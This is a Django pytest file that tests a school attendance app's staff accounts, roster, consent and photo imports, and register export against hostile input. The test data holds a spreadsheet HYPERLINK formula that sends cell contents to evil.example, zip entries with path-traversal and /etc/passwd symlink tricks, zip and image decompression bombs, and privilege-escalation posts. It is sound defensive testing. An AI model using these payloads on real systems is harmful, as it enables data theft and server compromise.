"""Issue 16's new features attacked as a hostile or careless user (the lead's check): the
Staff page's accounts and links, the roster, consent and photo imports with hostile files,
the register export, merging and class membership. Real photos, the real engine, no mocks."""
import csv
import io
import re
import time
import zipfile

import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse
from rest_framework.authtoken.models import Token

from attendance import staff
from attendance.models import AttendanceRecord, ClassSession, SchoolClass, Student
from attendance.roster import merging, photo_import
from attendance.roster.consent import withdraw_consent
from attendance.roster.imports import reading
from attendance.roster.imports.applying import apply_plan
from attendance.roster.imports.preview import preview_import

from .factories import give_consent, make_class
from .oneroster import oneroster_zip, school_files

pytestmark = pytest.mark.django_db


def _link_for(client, admin, user) -> str:
    client.force_login(admin)
    page = client.post(reverse("staff_password", args=[user.pk]), {"password": "link"}).content.decode()
    client.logout()
    return re.search(r'class="set-password-link">([^<]+)<', page).group(1)


def _use_link(client, link, password="Amber-fox-2026"):
    """Follows a set-password link as an anonymous visitor and posts a new password; the response."""
    form = client.get(link)
    if form.status_code != 302:
        return form
    return client.post(form["Location"], {"new_password1": password, "new_password2": password})


# --- Staff accounts ------------------------------------------------------------------------

def test_a_set_password_link_made_before_deactivation_does_not_work_after_it(client, users):
    teacher = users["teacher"]
    link = _link_for(client, users["admin"], teacher)
    staff.set_active(teacher, False, users["admin"])
    response = _use_link(client, link)
    teacher.refresh_from_db()
    assert not teacher.check_password("Amber-fox-2026"), "a deactivated account's password was set by an old link"
    assert response.status_code == 200 and "does not work any more" in response.content.decode()


def test_a_set_password_link_works_once(client, users):
    teacher = users["teacher"]
    link = _link_for(client, users["admin"], teacher)
    assert _use_link(client, link).status_code == 302
    _use_link(client, link, "Second-try-2026")
    teacher.refresh_from_db()
    assert teacher.check_password("Amber-fox-2026") and not teacher.check_password("Second-try-2026")


def test_a_school_admin_cannot_escalate_or_remove_the_last_admin(client, users, django_user_model):
    admin = users["admin"]
    root = django_user_model.objects.create_superuser("root", "root@school.example", "pw-root-1")
    client.force_login(admin)
    # No form field of the Staff page makes a superuser; posting one anyway changes nothing.
    client.post(reverse("staff_role", args=[users["teacher"].pk]), {"role": "admin", "is_superuser": "on"})
    client.post(reverse("staff_add"), {"name": "Eve Evil", "email": "eve@evil.example", "role": "superuser",
                                       "password": "link", "is_superuser": "on"})
    assert list(django_user_model.objects.filter(is_superuser=True)) == [root]
    # Themselves: no role change, deactivation or password; a superuser: none either.
    for url, data in ((reverse("staff_role", args=[admin.pk]), {"role": "teacher"}),
                      (reverse("staff_active", args=[admin.pk]), {}),
                      (reverse("staff_password", args=[admin.pk]), {"password": "one_time"}),
                      (reverse("staff_password", args=[root.pk]), {"password": "one_time"}),
                      (reverse("staff_password", args=[root.pk]), {"password": "link"}),
                      (reverse("staff_active", args=[root.pk]), {}),
                      (reverse("staff_role", args=[root.pk]), {"role": "teacher"})):
        client.post(url, data)
    admin.refresh_from_db(), root.refresh_from_db()
    assert admin.is_active and admin.is_staff and root.is_active and root.is_superuser
    assert root.check_password("pw-root-1") and admin.check_password("pw-admin-1")
    # The Django admin's user pages are not a back door for a school admin who is no superuser.
    assert client.get(f"/admin/auth/user/{admin.pk}/change/").status_code == 403
    assert client.post(f"/admin/auth/user/{admin.pk}/change/", {"is_superuser": "on"}).status_code == 403
    admin.refresh_from_db()
    assert not admin.is_superuser


def test_a_deactivated_teachers_api_token_and_session_stop_working(client, users):
    teacher = users["teacher"]
    token = Token.objects.create(user=teacher)
    client.force_login(teacher)
    assert client.get("/api/v1/classes/").status_code == 200
    staff.set_active(teacher, False, users["admin"])
    assert client.get("/api/v1/classes/").status_code in (401, 403)
    assert client.get(reverse("home")).status_code == 302  # the session is no longer signed in
    client.logout()
    assert client.get("/api/v1/classes/", HTTP_AUTHORIZATION=f"Token {token.key}").status_code == 401
    staff.set_active(teacher, True, users["admin"])
    assert client.get("/api/v1/classes/", HTTP_AUTHORIZATION=f"Token {token.key}").status_code == 401


def _teacher_leaving_zip() -> bytes:
    files = school_files()
    columns, rows = files["users.csv"]
    teacher = next(r for r in rows if r.get("role") == "teacher")
    files["users.csv"] = (columns, [{**teacher, "status": "tobedeleted", "dateLastModified": "2026-10-02T08:00:00Z"}])
    return oneroster_zip({"users.csv": files["users.csv"]}, modes={"users": "delta"}), teacher["username"]


def test_a_teacher_deactivated_by_a_roster_import_loses_their_api_tokens(users):
    apply_plan(preview_import("roster.zip", oneroster_zip(school_files())), users["admin"])
    data, username = _teacher_leaving_zip()
    leaver = get_user_model().objects.get(username=username)
    token = Token.objects.create(user=leaver)
    plan = preview_import("delta.zip", data)
    assert plan.teachers_deactivated == [leaver]
    apply_plan(plan, users["admin"])
    leaver.refresh_from_db()
    assert not leaver.is_active
    # As the Staff page's deactivation: the tokens go, so a later reactivation revives none.
    assert not Token.objects.filter(pk=token.pk).exists()


def test_a_roster_import_does_not_take_over_a_superusers_account(users, django_user_model):
    root = django_user_model.objects.create_superuser("root", "root@school.example", "pw-root-1")
    plan = preview_import("roster.csv", b"student_id,name,class,teacher,teacher_email\r\n"
                                        b"A001,Ada Lovelace,7A,root,attacker@evil.example\r\n")
    assert any("root is a superuser" in note for note in plan.notes) and not plan.teachers_updated
    apply_plan(plan, users["admin"], skip_bad_rows=True)
    root.refresh_from_db()
    assert root.email == "root@school.example", "a school admin's import changed a superuser's e-mail"


# --- Hostile roster files ------------------------------------------------------------------

def test_a_zip_bomb_is_refused_without_unzipping_it(users):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("users.csv", b"sourcedId,status\r\n" + b"a" * (300 * 1024 * 1024))
    started = time.monotonic()
    with pytest.raises(reading.RosterFileError, match="larger than"):
        preview_import("bomb.zip", buffer.getvalue())
    assert time.monotonic() - started < 10


def test_a_zip_with_parent_absolute_and_symlink_paths_writes_nothing_outside(users, tmp_path, settings):
    files = school_files()
    clean = zipfile.ZipFile(io.BytesIO(oneroster_zip(files)))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for info in clean.infolist():
            prefix = {"users.csv": "../../", "classes.csv": "/etc/", "orgs.csv": "C:\\x\\"}.get(info.filename, "")
            archive.writestr(prefix + info.filename, clean.read(info))
        link = zipfile.ZipInfo("evil.csv")
        link.external_attr = 0o120777 << 16  # a symlink to /etc/passwd
        archive.writestr(link, "/etc/passwd")
    before = set(tmp_path.parent.rglob("*"))
    plan = preview_import("paths.zip", buffer.getvalue())
    # "../../users.csv" is skipped as a hidden path (".."): the manifest's users.csv is missing.
    assert any("users.csv is not in the zip" in r.reason for r in plan.refusals)
    assert not any("classes.csv is not" in r.reason or "orgs.csv is not" in r.reason for r in plan.refusals)
    apply_plan(plan, users["admin"], skip_bad_rows=True)
    assert set(tmp_path.parent.rglob("*")) == before


def test_a_huge_field_and_a_100k_row_csv_are_refused_or_read_quickly(users):
    huge = b"student_id,name,class,teacher\r\nA1," + b"x" * (5 * 1024 * 1024) + b",7A,jlee\r\n"
    try:
        plan = preview_import("huge.csv", huge)
    except reading.RosterFileError:
        pass
    else:
        assert plan.refusals and not plan.students_new
    rows = "".join(f"B{n},Child {n},Class {n % 40},teacher{n % 40}\r\n" for n in range(100_000))
    started = time.monotonic()
    try:
        preview_import("big.csv", ("student_id,name,class,teacher\r\n" + rows).encode())
    except reading.RosterFileError:
        pass
    assert time.monotonic() - started < 60


def test_formula_injection_through_the_roster_is_defused_in_the_register_export(client, users):
    hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"
    data = ("student_id,name,class,teacher\r\n"
            f"+A1,\"{hostile.replace(chr(34), chr(34) * 2)}\",@cmd,jlee\r\n"
            "-A2,Plain Name,@cmd,jlee\r\n").encode()
    plan = preview_import("roster.csv", data)
    apply_plan(plan, users["admin"], skip_bad_rows=True)
    for student in Student.objects.all():
        session, _ = ClassSession.objects.get_or_create(school_class=student.classes.get(), date="2026-11-03",
                                                        period="1")
        AttendanceRecord.objects.create(session=session, student=student, status="present")
    client.force_login(users["admin"])
    body = client.get(reverse("registers_export_csv"), {"from": "2026-11-01", "to": "2026-11-30"}).content
    for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))):
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r", f"formula cell {cell!r} in the export"


def test_mixed_encodings_and_duplicated_ids_across_rows(users):
    data = ("student_id,name,class,teacher\r\n".encode() + "A1,Zoë Martin,7A,jlee\r\n".encode("utf-8")
            + "A2,Léa Dubois,7A,jlee\r\n".encode("latin-1") + "A1,Zoë Other,7B,jlee\r\n".encode("utf-8"))
    plan = preview_import("roster.csv", data)
    lines = sorted(r.line for r in plan.refusals)
    assert 3 in lines and 4 in lines  # the latin-1 row and the second name for A1
    apply_plan(plan, users["admin"], skip_bad_rows=True)
    assert list(Student.objects.values_list("school_id", "name")) == [("A1", "Zoë Martin")]


# --- Preview tokens and imports ------------------------------------------------------------

def test_a_preview_is_not_usable_by_another_admin_or_after_import(client, users, django_user_model):
    other_admin = django_user_model.objects.create_user("admin2", password="pw-admin-2", is_staff=True)
    client.force_login(users["admin"])
    upload = io.BytesIO(b"student_id,name,class,teacher\r\nA1,Ada Lovelace,7A,jlee\r\n")
    upload.name = "roster.csv"
    assert client.post(reverse("roster_import"), {"roster": upload}).status_code == 200
    from django.test import Client
    other = Client()
    other.force_login(other_admin)
    response = other.post(reverse("roster_import_apply"), {})
    assert response.status_code == 302 and Student.objects.count() == 0
    assert client.post(reverse("roster_import_apply"), {}).status_code == 302
    assert Student.objects.count() == 1
    again = client.post(reverse("roster_import_apply"), {}, follow=True)
    assert "No roster file is waiting" in again.content.decode()


# --- Merging, membership, photos -----------------------------------------------------------

def test_merging_a_student_into_themselves_is_refused_and_same_session_records_keep_one(users):
    ada, ada2 = Student.objects.create(name="Ada"), Student.objects.create(name="Ada L")
    seven = make_class(users["teacher"], "7A", students=[ada, ada2])
    with pytest.raises(merging.MergeError):
        merging.merge_students(ada, Student.objects.get(pk=ada.pk), users["admin"])
    session = ClassSession.objects.create(school_class=seven, date="2026-11-03", period="1")
    AttendanceRecord.objects.create(session=session, student=ada, status="absent")
    AttendanceRecord.objects.create(session=session, student=ada2, status="present")
    merging.merge_students(ada, ada2, users["admin"])
    assert AttendanceRecord.objects.filter(session=session).count() == 1
    assert list(seven.students.all()) == [ada]


def test_a_co_teacher_of_one_class_changes_nothing_of_another(client, users):
    joe = Student.objects.create(name="Joe Biden")
    history = make_class(users["teacher"], "History 7", [joe])
    maths = make_class(users["admin"], "Maths 7", [joe])
    maths.co_teachers.add(users["other_teacher"])
    client.force_login(users["other_teacher"])
    assert client.get(reverse("class_detail", args=[history.pk])).status_code in (403, 404)
    assert client.get(f"/api/v1/classes/{history.pk}/students/").status_code in (403, 404)
    assert client.patch(f"/api/v1/students/{joe.pk}/", {"name": "Hacked"},
                        content_type="application/json").status_code == 403
    assert client.post(reverse("class_students_change", args=[history.pk]),
                       {"students": [joe.pk], "action": "remove"}).status_code in (403, 404)
    assert list(history.students.all()) == [joe] and Student.objects.get(pk=joe.pk).name == "Joe Biden"


def _photo_zip(photo) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.write(photo("identities/Barack_Obama/1.jpg"), "S-1.jpg")
        archive.write(photo("identities/Barack_Obama/2.jpg"), "../../S-1/2.jpg")
    return buffer.getvalue()


def test_photo_import_refuses_a_student_whose_consent_was_withdrawn(users, photo):
    barack = Student.objects.create(name="Barack Obama", school_id="S-1")
    give_consent(barack)
    withdraw_consent(barack, users["admin"])
    plan = photo_import.plan_photo_import(io.BytesIO(_photo_zip(photo)), "photos.zip")
    assert [f.outcome for f in plan.files] == [photo_import.REFUSED, photo_import.REFUSED]
    assert all("no consent" in f.reason for f in plan.files)


def test_photo_import_with_parent_paths_reads_them_as_plain_names(users, photo, tmp_path):
    barack = Student.objects.create(name="Barack Obama", school_id="S-1")
    give_consent(barack)
    plan = photo_import.plan_photo_import(io.BytesIO(_photo_zip(photo)), "photos.zip")
    assert sorted((f.path, f.outcome) for f in plan.files) == [("S-1.jpg", photo_import.NEW),
                                                               ("S-1/2.jpg", photo_import.NEW)]


def test_the_register_export_is_for_admins_and_office_only(client, users):
    url, api = reverse("registers_export_csv"), "/api/v1/exports/registers/"
    query = {"from": "2026-11-01", "to": "2026-11-30"}
    assert client.get(url, query).status_code == 302  # anonymous: to sign-in
    assert client.get(api, query).status_code in (401, 403)
    for role, allowed in (("teacher", False), ("other_teacher", False), ("office", True), ("admin", True)):
        client.force_login(users[role])
        assert (client.get(url, query).status_code == 200) == allowed, role
        assert (client.get(api, query).status_code == 200) == allowed, role
    for role in ("teacher", "office"):
        client.force_login(users[role])
        for name in ("staff_list", "roster_import", "consent_import", "photos_import", "possible_duplicates"):
            assert client.get(reverse(name)).status_code == 403, (role, name)
    assert SchoolClass.objects.count() == 0


def test_a_stale_plan_applied_after_another_import_doubles_nothing(users):
    data = b"student_id,name,class,teacher\r\nA1,Ada Lovelace,7A,jlee\r\nA2,Alan Turing,7A,jlee\r\n"
    first, second = preview_import("a.csv", data), preview_import("b.csv", data)  # two admins' previews
    apply_plan(first, users["admin"])
    try:
        apply_plan(second, users["admin"])
    except Exception as exc:  # refused as a whole is fine; half-written or doubled is not
        assert "nothing was written" in str(exc), exc
    assert sorted(Student.objects.values_list("school_id", flat=True)) == ["A1", "A2"]
    assert list(SchoolClass.objects.values_list("name", flat=True)) == ["7A"]
    assert get_user_model().objects.filter(username="jlee").count() == 1


def test_the_register_export_over_centuries_is_refused_or_bounded(client, users):
    client.force_login(users["office"])
    started = time.monotonic()
    response = client.get(reverse("registers_export_csv"), {"from": "0001-01-01", "to": "9999-12-31"})
    assert response.status_code in (200, 400) and time.monotonic() - started < 10
    api = client.get("/api/v1/exports/registers/", {"from": "2026-13-01", "to": "x"})
    assert api.status_code == 400


# --- At the same moment (PostgreSQL: real row locks) ------------------------------------------

def _at_once(*jobs):
    """Runs ``jobs`` in threads (each with its own database connection) while another
    connection holds the audit log's table locked, so each job stops at its audit entry,
    after its checks and writes; then lets them all finish. The jobs' exceptions, in order."""
    import threading

    from django.db import connection, connections, transaction

    if connection.vendor != "postgresql":
        pytest.skip("row locks need PostgreSQL (DATABASE_URL=postgres://...)")
    locked, release, errors = threading.Event(), threading.Event(), [None] * len(jobs)

    def hold_lock():
        with transaction.atomic():
            connections["default"].cursor().execute("LOCK TABLE attendance_auditentry IN EXCLUSIVE MODE")
            locked.set()
            release.wait(30)
        connections["default"].close()

    def run(index, job):
        try:
            job()
        except Exception as exc:  # noqa: BLE001 - reported to the test
            errors[index] = exc
        finally:
            connections["default"].close()

    holder = threading.Thread(target=hold_lock)
    holder.start()
    locked.wait(10)
    threads = [threading.Thread(target=run, args=(i, job)) for i, job in enumerate(jobs)]
    for thread in threads:
        thread.start()
    deadline = time.monotonic() + 20
    with connection.cursor() as cursor:
        while time.monotonic() < deadline:
            cursor.execute("SELECT count(DISTINCT pid) FROM pg_locks WHERE NOT granted")
            if cursor.fetchone()[0] >= len(jobs):
                break
            time.sleep(0.05)
    release.set()
    for thread in [holder, *threads]:
        thread.join(30)
    return errors


@pytest.mark.django_db(transaction=True)
def test_two_photo_imports_at_once_store_each_photo_once(users, photo, redis_url):
    from attendance.models import EnrolmentPhoto

    barack = Student.objects.create(name="Barack Obama", school_id="S-1")
    give_consent(barack)
    data = _photo_zip(photo)
    errors = _at_once(*[lambda: photo_import.apply_photo_import(io.BytesIO(data), users["admin"], "photos.zip")] * 2)
    assert EnrolmentPhoto.objects.filter(student=barack).count() == 2, errors  # S-1.jpg and S-1/2.jpg, once


@pytest.mark.django_db(transaction=True)
def test_a_photo_import_at_the_moment_consent_is_withdrawn_leaves_no_photo(users, photo, redis_url):
    from django.db import transaction

    from attendance.models import Consent, EnrolmentPhoto

    barack = Student.objects.create(name="Barack Obama", school_id="S-1")
    give_consent(barack)
    data = _photo_zip(photo)

    def withdraw():
        with transaction.atomic():
            withdraw_consent(Student.objects.get(pk=barack.pk), users["admin"])

    errors = _at_once(lambda: photo_import.apply_photo_import(io.BytesIO(data), users["admin"], "photos.zip"),
                      withdraw)
    if Consent.objects.filter(student=barack).exists():  # the withdrawal lost: it must say so
        assert errors[1] is not None
    else:
        assert not EnrolmentPhoto.objects.filter(student=barack).exists(), errors


@pytest.mark.django_db(transaction=True)
def test_two_roster_imports_at_once_double_nothing(users):
    data = b"student_id,name,class,teacher\r\nA1,Ada Lovelace,7A,jlee\r\nA2,Alan Turing,7A,jlee\r\n"
    plans = [preview_import("a.csv", data), preview_import("b.csv", data)]
    errors = _at_once(*[lambda plan=plan: apply_plan(plan, users["admin"]) for plan in plans])
    assert sorted(Student.objects.values_list("school_id", flat=True)) == ["A1", "A2"]
    assert list(SchoolClass.objects.values_list("name", flat=True)) == ["7A"]
    assert [type(e).__name__ for e in errors].count("NoneType") == 1, errors  # the other refused as a whole
    assert "nothing was written" in str(next(e for e in errors if e is not None))


@pytest.mark.django_db(transaction=True)
def test_two_admins_demoting_each_other_at_once_leave_one_admin(users, django_user_model):
    first = users["admin"]
    second = django_user_model.objects.create_user("admin2", password="pw-admin-2", is_staff=True)
    errors = _at_once(lambda: staff.change_role(get_user_model().objects.get(pk=second.pk), staff.TEACHER, first),
                      lambda: staff.change_role(get_user_model().objects.get(pk=first.pk), staff.TEACHER, second))
    assert django_user_model.objects.filter(is_staff=True, is_active=True).count() == 1, errors


def test_photo_import_refuses_a_decompression_bomb_named_as_a_student(users):
    from .attack_images import png

    barack = Student.objects.create(name="Barack Obama", school_id="S-1")
    give_consent(barack)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("S-1.png", png(11000, 11000))
        archive.writestr("S-1/2.jpg", b"\xff\xd8\xff\xe0" + b"\x00" * 100)  # a JPEG header and nothing
    started = time.monotonic()
    plan = photo_import.plan_photo_import(io.BytesIO(buffer.getvalue()), "bomb.zip")
    assert [f.outcome for f in plan.files] == [photo_import.REFUSED, photo_import.REFUSED], [
        (f.path, f.reason) for f in plan.files]
    assert time.monotonic() - started < 10


def test_membership_api_and_page_with_garbage_answer_400_not_500(client, users):
    joe = Student.objects.create(name="Joe Biden")
    history = make_class(users["teacher"], "History 7", [joe])
    url = reverse("api:class-students", args=[history.pk])
    move = reverse("api:class-students-move", args=[history.pk])
    client.force_login(users["admin"])
    for body in ({"students": "x"}, {"students": [None]}, {"students": [[1]]}, {}, {"students": [-1]},
                 {"students": list(range(1, 20_000))}):
        assert client.post(url, body, content_type="application/json").status_code in (400, 413), body
    for body in ({"students": [joe.pk], "to_class": 10 ** 9}, {"students": [joe.pk], "to_class": "abc"},
                 {"students": [joe.pk], "to_class": history.pk}, {"students": [joe.pk]}):
        assert client.post(move, body, content_type="application/json").status_code == 400, body
    page = reverse("class_students_change", args=[history.pk])
    for data in ({"students": ["x"], "action": "move", "to_class": "y"}, {"students": [joe.pk], "action": "zap"},
                 {"students": [joe.pk], "action": "move", "to_class": 10 ** 9}):
        assert client.post(page, data).status_code in (302, 400), data
    assert list(history.students.all()) == [joe]


def _peak_bytes_of(call) -> tuple[int, Exception | None]:
    """(the peak of Python memory allocated while ``call()`` ran, in bytes; what it raised)."""
    import tracemalloc

    tracemalloc.start()
    raised = None
    try:
        call()
    except Exception as exc:  # noqa: BLE001 - returned to the test
        raised = exc
    finally:
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    return peak, raised


@pytest.mark.parametrize("command", ["import_roster", "import_consent"])
def test_import_commands_read_no_more_of_a_huge_file_than_their_limit(command, users, tmp_path):
    from django.core.management import CommandError, call_command

    huge = tmp_path / "sis_dump.csv"
    with huge.open("wb") as fh:
        fh.truncate(96 * 1024 * 1024)  # sparse: 96 MB of zeros, no disk used
    peak, raised = _peak_bytes_of(lambda: call_command(command, str(huge), "--dry-run"))
    assert isinstance(raised, CommandError) and "larger than" in str(raised), raised
    assert peak < 40 * 1024 * 1024, f"{command} read {peak // 2 ** 20} MB of a file over its limit"
    endless, raised = _peak_bytes_of(lambda: call_command(command, "/dev/zero", "--dry-run"))
    assert isinstance(raised, CommandError) and endless < 40 * 1024 * 1024, raised


def _upload(client, url, field, name, content: bytes):
    upload = io.BytesIO(content)
    upload.name = name
    page = client.post(reverse(url), {field: upload})
    assert page.status_code == 200, page.content.decode()[:2000]
    found = re.search(r'name="upload" value="([0-9a-f]*)"', page.content.decode())
    return found.group(1) if found else ""


def test_import_in_a_stale_tab_does_not_import_the_file_of_another_preview(client, users):
    client.force_login(users["admin"])
    tab_a = _upload(client, "roster_import", "roster", "a.csv", b"student_id,name,class,teacher\r\nA1,Ada Lovelace,7A,jlee\r\n")
    tab_b = _upload(client, "roster_import", "roster", "b.csv", b"student_id,name,class,teacher\r\nB1,Bob Dylan,9Z,zed\r\n")
    # The admin confirms tab A's preview: nothing of B's file (whose preview they never read) is written.
    response = client.post(reverse("roster_import_apply"), {"upload": tab_a}, follow=True)
    assert not Student.objects.filter(school_id="B1").exists()
    assert "not the one of the preview you confirmed" in response.content.decode()
    client.post(reverse("roster_import_apply"), {"upload": tab_b})
    assert list(Student.objects.values_list("school_id", flat=True)) == ["B1"]


def test_consent_import_in_a_stale_tab_records_nothing(client, users):
    from attendance.models import Consent

    for school_id in ("S-1", "S-2"):
        Student.objects.create(name=f"Child {school_id}", school_id=school_id)
    client.force_login(users["admin"])
    header = "student_id,given_by,given_on,note\r\n"
    tab_a = _upload(client, "consent_import", "file", "a.csv", (header + "S-1,Parent,2026-09-01,Form 1\r\n").encode())
    _upload(client, "consent_import", "file", "b.csv", (header + "S-2,Parent,2026-09-01,Form 2\r\n").encode())
    client.post(reverse("consent_import_apply"), {"upload": tab_a})
    assert not Consent.objects.exists()


def test_a_one_time_password_opens_no_api_by_session_until_it_is_changed(client, users):
    password = staff.issue_one_time_password(users["teacher"], users["admin"])
    assert client.login(username="teacher", password=password)
    assert client.get(reverse("home")).status_code == 302  # the pages send them to /password/
    response = client.get("/api/v1/classes/")
    assert response.status_code == 403 and "/password/" in response.json()["detail"]
    client.post(reverse("password_change"), {"old_password": password, "new_password1": "Quiet-lake-42x",
                                             "new_password2": "Quiet-lake-42x"})
    assert client.get("/api/v1/classes/").status_code == 200


def test_one_sourced_id_for_a_teacher_and_a_student_is_refused_not_guessed(users):
    files = school_files()
    columns, people = files["users.csv"]
    twin = dict(sourcedId="s01", role="teacher", username="mallory", givenName="Mal", familyName="Lory",
                email="mal@evil.example")
    files["users.csv"] = (columns, [*people, twin])
    plan = preview_import("roster.zip", oneroster_zip(files))
    assert any(r.file == "users.csv" and "s01" in r.reason for r in plan.refusals), [str(r) for r in plan.refusals]
    apply_plan(plan, users["admin"], skip_bad_rows=True)
    assert not get_user_model().objects.filter(username="mallory").exists()
    assert Student.objects.filter(school_id="s01").count() <= 1


def test_a_student_is_not_set_apart_from_themselves(client, users):
    from attendance.models import AuditEntry, DifferentChildren

    ada = Student.objects.create(name="Ada")
    client.force_login(users["admin"])
    for decision in ("different", "merge"):
        response = client.post(reverse("duplicate_decide"), {"first": ada.pk, "second": ada.pk, "decision": decision})
        assert response.status_code in (302, 400)
    assert not DifferentChildren.objects.exists() and Student.objects.filter(pk=ada.pk).exists()
    assert not AuditEntry.objects.filter(action=AuditEntry.NOT_DUPLICATES).exists()
